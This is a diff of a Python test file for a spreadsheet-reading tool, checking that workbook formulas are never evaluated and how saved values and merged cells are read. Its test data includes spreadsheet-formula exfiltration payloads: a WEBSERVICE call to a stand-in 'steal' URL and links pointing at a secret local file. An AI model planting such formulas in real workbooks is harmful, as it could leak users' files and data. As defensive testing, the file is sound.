@@ -423,38 +423,80 @@ def _person_row(ws, pid: str) -> int:
 
 def test_workbook_formulas_are_never_evaluated(tmp_path, secret, no_network):
     """Formulas in instance workbooks (=WEBSERVICE, =HYPERLINK, a link to another file) are never
-    evaluated: the reader takes the value the spreadsheet program saved (none, for a workbook no
-    program has opened), so a formula in a required cell is a missing value (exit 2), one in a
-    name is no name; a text cell that merely starts with '=' is read as that text."""
+    evaluated: the reader takes the value the spreadsheet program saved. A formula with none (as
+    openpyxl and other libraries write them) is refused by sheet, row and column, never read as a
+    blank (a post silently got min 0); a text cell that merely starts with '=' is that text."""
     formulas = ['=WEBSERVICE("http://example.invalid/steal")', f'=HYPERLINK("file://{secret}")',
                 f"='file://{secret}'#$Sheet1.A1", "=[1]Sheet1!A1"]
-
-    def names(wb):
-        ws = wb["persons"]
-        for pid, formula in zip(("P01", "P02", "P03", "A02"), formulas):
-            ws.cell(row=_person_row(ws, pid), column=2).value = formula  # a formula cell (data type f)
-        text = ws.cell(row=_person_row(ws, "A01"), column=2)
-        text.value, text.data_type = "=1+1", "s"  # text that starts with '='
-
     path = tmp_path / "formulas.xlsx"
-    path.write_bytes(_template_with(names))
-    with recording() as events:
-        assert run("info", str(path)).exit_code == 0
-    assert foreign_opens(events, path) == []
+    for pid, formula in zip(("P01", "P02", "P03", "A02"), formulas):
+        def name(wb, pid=pid, formula=formula):
+            ws = wb["persons"]
+            ws.cell(row=_person_row(ws, pid), column=2).value = formula  # a formula cell (data type f)
+
+        path.write_bytes(_template_with(name))
+        with recording() as events:
+            line = refused(run("info", str(path)), "sheet 'persons', row", "column 'name'",
+                           "a formula with no value saved")
+        assert f"row {_person_row(openpyxl.load_workbook(path)['persons'], pid)}," in line
+        assert foreign_opens(events, path) == [] and SECRET not in line
+
+    def min_formula(wb):
+        ws = wb["posts"]
+        ws.cell(row=3, column=8).value = "=1+1"
+
+    path.write_bytes(_template_with(min_formula))
+    refused(run("info", str(path)), "sheet 'posts', row 3, column 'min'", "a formula with no value saved")
+
+    def text(wb):
+        cell = wb["persons"].cell(row=_person_row(wb["persons"], "A01"), column=2)
+        cell.value, cell.data_type = "=1+1", "s"  # text that starts with '='
+
+    path.write_bytes(_template_with(text))
     out = tmp_path / "out"
     solve_and_check(path, out, "--outputs", "none")
     by_id = {r["person_id"]: r["person_name"] for r in rows_of(out / "roster.csv")}
-    assert {by_id.get(pid, "") for pid in ("P01", "P02", "P03", "A02")} == {""}
     assert by_id.get("A01") in (None, "=1+1")
-    roster = (out / "roster.csv").read_text(encoding="utf-8")
-    assert SECRET not in roster and "WEBSERVICE" not in roster
+    assert "'=1+1" in (out / "roster.csv").read_text(encoding="utf-8") or "A01" not in by_id
 
-    def role_formula(wb):
+
+def test_a_formulas_saved_value_is_read(tmp_path):
+    """A formula whose value a spreadsheet program saved (``<f>`` with ``<v>``) reads as that value."""
+    def min_formula(wb):
+        wb["posts"].cell(row=3, column=8).value = "=1+1"
+
+    def saved(name, content):
+        if name is None or not name.startswith("xl/worksheets/"):
+            return content
+        return re.sub(rb"<f>1\+1</f><v\s*/>|<f>1\+1</f>(?!<v>)", b"<f>1+1</f><v>2</v>", content)
+
+    path = tmp_path / "saved.xlsx"
+    path.write_bytes(_rezip(_template_with(min_formula), saved))
+    from models import load_instance
+
+    inst = load_instance(path)
+    ws = openpyxl.load_workbook(path)["posts"]
+    school, post = ws.cell(row=3, column=1).value, ws.cell(row=3, column=2).value
+    demand = next(p for s in inst.schools if s.id == school for p in s.posts if p.id == post).demand
+    assert demand["default"].min == 2
+
+
+def test_merged_cells_read_their_value_in_every_cell_they_cover(tmp_path):
+    """A merged range shows one value over several cells: each cell it covers reads that value
+    (two persons under one merged unit cell both belong to that unit), never a blank."""
+    def merged(wb):
         ws = wb["persons"]
-        ws.cell(row=_person_row(ws, "P01"), column=3).value = '=WEBSERVICE("http://example.invalid/role")'
+        r = _person_row(ws, "P02")
+        ws.cell(row=r + 1, column=4).value = None
+        ws.merge_cells(start_row=r, start_column=4, end_row=r + 1, end_column=4)
 
-    path.write_bytes(_template_with(role_formula))
-    refused(run("info", str(path)), "sheet 'persons', row", "column 'role'", "required field is missing")
+    path = tmp_path / "merged.xlsx"
+    path.write_bytes(_template_with(merged))
+    from models import load_instance
+
+    inst = load_instance(path)
+    by_id = {p.id: p for p in inst.persons}
+    assert by_id["P02"].unit == by_id["P03"].unit == "west-station"
 
 
 def _rezip(data: bytes, change) -> bytes:
